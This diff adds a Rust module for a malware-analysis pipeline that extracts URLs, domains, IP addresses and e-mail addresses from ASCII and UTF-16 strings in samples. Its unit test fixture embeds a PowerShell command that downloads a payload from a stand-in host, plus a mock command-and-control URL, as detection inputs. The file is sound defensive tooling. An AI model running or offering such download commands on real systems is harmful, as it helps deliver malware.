@@ -1,0 +1,169 @@
+//! Indicators in a sample's text: URLs, domains, IPv4 addresses and e-mail
+//! addresses, from ASCII and UTF-16LE runs (Windows binaries store many
+//! strings as UTF-16). Deduplicated, capped, sorted.
+
+use std::collections::BTreeSet;
+
+use intake::analysis::Analyser;
+use intake::queue::SampleJob;
+
+pub struct Strings;
+
+/// Most indicators of one kind kept.
+const MAX_EACH: usize = 500;
+/// Shortest run of printable characters considered.
+const MIN_RUN: usize = 6;
+
+/// Top-level domains a bare domain must end in to count (the common ones;
+/// keeps "file.dll" and "kernel32.dll" out).
+const TLDS: &[&str] = &[
+    "com", "net", "org", "info", "biz", "io", "ru", "cn", "de", "uk", "fr", "br", "in", "jp",
+    "xyz", "top", "online", "site", "club", "pw", "tk", "su", "co", "me", "tv", "cc", "us",
+    "eu", "nl", "it", "es", "pl", "kr", "tw", "hk", "ir", "onion", "example", "invalid",
+];
+
+#[derive(Debug, Default, PartialEq, Eq)]
+pub struct Indicators {
+    pub urls: BTreeSet<String>,
+    pub domains: BTreeSet<String>,
+    pub ips: BTreeSet<String>,
+    pub emails: BTreeSet<String>,
+}
+
+/// Printable runs of at least MIN_RUN characters, ASCII and UTF-16LE.
+fn runs(bytes: &[u8]) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut cur = String::new();
+    for &b in bytes {
+        if (0x20..0x7f).contains(&b) {
+            cur.push(b as char);
+        } else {
+            if cur.len() >= MIN_RUN {
+                out.push(std::mem::take(&mut cur));
+            }
+            cur.clear();
+        }
+    }
+    if cur.len() >= MIN_RUN {
+        out.push(std::mem::take(&mut cur));
+    }
+    // UTF-16LE: printable byte followed by zero.
+    let mut cur = String::new();
+    for pair in bytes.chunks_exact(2) {
+        if pair[1] == 0 && (0x20..0x7f).contains(&pair[0]) {
+            cur.push(pair[0] as char);
+        } else {
+            if cur.len() >= MIN_RUN {
+                out.push(std::mem::take(&mut cur));
+            }
+            cur.clear();
+        }
+    }
+    if cur.len() >= MIN_RUN {
+        out.push(cur);
+    }
+    out
+}
+
+fn is_ipv4(s: &str) -> bool {
+    let parts: Vec<&str> = s.split('.').collect();
+    parts.len() == 4
+        && parts
+            .iter()
+            .all(|p| !p.is_empty() && p.len() <= 3 && p.parse::<u8>().is_ok())
+}
+
+fn is_domain(s: &str) -> bool {
+    let labels: Vec<&str> = s.split('.').collect();
+    labels.len() >= 2
+        && s.len() <= 253
+        && labels.iter().all(|l| {
+            !l.is_empty()
+                && l.len() <= 63
+                && !l.starts_with('-')
+                && !l.ends_with('-')
+                && l.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
+        })
+        && labels
+            .last()
+            .is_some_and(|t| TLDS.contains(&t.to_ascii_lowercase().as_str()))
+}
+
+/// Extracts the indicators in `bytes`.
+pub fn extract(bytes: &[u8]) -> Indicators {
+    let mut ind = Indicators::default();
+    for run in runs(bytes) {
+        for token in run.split(|c: char| c.is_whitespace() || "\"'<>()[]{},;|`^".contains(c)) {
+            let token = token.trim_end_matches(['.', ':', '!', '?']);
+            let lower = token.to_ascii_lowercase();
+            if lower.starts_with("http://") || lower.starts_with("https://") || lower.starts_with("ftp://") {
+                if ind.urls.len() < MAX_EACH {
+                    ind.urls.insert(token.to_owned());
+                }
+                let host = token.split("://").nth(1).unwrap_or("").split(['/', ':', '?', '#']).next().unwrap_or("");
+                let host = host.rsplit('@').next().unwrap_or(host);
+                if is_ipv4(host) && ind.ips.len() < MAX_EACH {
+                    ind.ips.insert(host.to_owned());
+                } else if is_domain(host) && ind.domains.len() < MAX_EACH {
+                    ind.domains.insert(host.to_ascii_lowercase());
+                }
+            } else if let Some((user, host)) = token.split_once('@') {
+                if !user.is_empty()
+                    && user.chars().all(|c| c.is_ascii_alphanumeric() || "._%+-".contains(c))
+                    && is_domain(host)
+                    && ind.emails.len() < MAX_EACH
+                {
+                    ind.emails.insert(token.to_ascii_lowercase());
+                }
+            } else if is_ipv4(token) {
+                if ind.ips.len() < MAX_EACH {
+                    ind.ips.insert(token.to_owned());
+                }
+            } else if is_domain(token) && ind.domains.len() < MAX_EACH {
+                ind.domains.insert(lower);
+            }
+        }
+    }
+    ind
+}
+
+impl Analyser for Strings {
+    fn name(&self) -> &'static str {
+        "strings"
+    }
+    fn version(&self) -> String {
+        "1".to_owned()
+    }
+    fn analyse(&self, bytes: &[u8], _job: &SampleJob) -> Result<serde_json::Value, String> {
+        let i = extract(bytes);
+        Ok(serde_json::json!({ "urls": i.urls, "domains": i.domains, "ips": i.ips, "emails": i.emails }))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn finds_indicators_in_ascii_and_utf16() {
+        let mut data = b"\x00\x01powershell -c iwr http://evil.example/payload.bin; ping 10.0.0.5; mail bob@acme.example\x00".to_vec();
+        data.extend("https://c2.example.ru:8443/gate.php".encode_utf16().flat_map(u16::to_le_bytes));
+        data.extend(b"\x00\x00kernel32.dll user32.dll 999.1.1.1 a.b\x00");
+        let i = extract(&data);
+        assert!(i.urls.contains("http://evil.example/payload.bin"));
+        assert!(i.urls.contains("https://c2.example.ru:8443/gate.php"));
+        assert!(i.domains.contains("evil.example"));
+        assert!(i.domains.contains("c2.example.ru"));
+        assert!(i.ips.contains("10.0.0.5"));
+        assert!(i.emails.contains("bob@acme.example"));
+        assert!(!i.domains.iter().any(|d| d.ends_with(".dll")));
+        assert!(!i.ips.contains("999.1.1.1"));
+    }
+
+    #[test]
+    fn binary_noise_yields_nothing() {
+        let noise: Vec<u8> = (0..10_000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8).collect();
+        let i = extract(&noise);
+        assert!(i.urls.is_empty() && i.emails.is_empty());
+    }
+}
